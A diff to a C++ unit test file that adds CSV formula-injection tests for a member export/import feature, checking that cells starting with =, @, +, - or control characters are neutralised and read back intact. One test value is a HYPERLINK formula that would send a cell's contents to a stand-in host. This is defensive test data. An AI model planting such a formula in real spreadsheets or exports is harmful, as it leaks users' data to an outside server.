@@ -36,6 +36,16 @@ TEST(ExportCsvTest, HeaderAndQuotedRows) {
 }
 
 // What `member export` writes, `member import` reads back: every row, every value.
+// A name that a spreadsheet would run as a formula reaches the file neutralised.
+TEST(ExportCsvTest, FormulaCellsAreNeutralised) {
+  v1::ExportMembersResponse chunk;
+  *chunk.add_rows() = Row("ch-1", "=1+1", "", "", "2020-05-01", "mb-1");
+  *chunk.add_rows() = Row("ch-1", "@cmd", "", "", "2020-05-01", "mb-2");
+  EXPECT_EQ(ExportCsvRows(chunk),
+            "ch-1,\"'=1+1\",,,2020-05-01,mb-1,active\n"
+            "ch-1,\"'@cmd\",,,2020-05-01,mb-2,active\n");
+}
+
 TEST(ExportCsvTest, ImportPlanReadsAnExportedFileBackIntact) {
   std::vector<v1::ExportRow> rows = {
       Row("ch-1", "Juana Azurduy", "1234567", "1780-07-12", "2020-01-01", "mb-1"),
@@ -47,6 +57,15 @@ TEST(ExportCsvTest, ImportPlanReadsAnExportedFileBackIntact) {
       Row("ch-3", "Two\nlines", "11", "", "", "mb-7"),
       Row("ch-3", "\"", "", "", "", "mb-8"),
       Row("ch-4", "Tupac Katari, \"Julián Apaza\", 1750–1781", "12", "", "", "mb-9"),
+      // Cells a spreadsheet would run: written neutralised, read back as they were.
+      Row("ch-5", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "13", "", "", "mb-10"),
+      Row("ch-5", "+1", "-14", "", "", "mb-11"),
+      Row("ch-5", "-Ana", "15", "", "", "mb-12"),
+      Row("ch-5", "@SUM(A1)", "16", "", "", "mb-13"),
+      Row("ch-5", "\tAna", "17", "", "", "mb-14"),
+      Row("ch-5", "\rAna", "18", "", "", "mb-15"),
+      Row("ch-5", "'=1+1", "19", "", "", "mb-16"),
+      Row("ch-5", "'quoted", "20", "", "", "mb-17"),
   };
   // Rows arrive in chunks; the file is the header and each chunk's lines in order.
   std::string file = ExportCsvHeader();
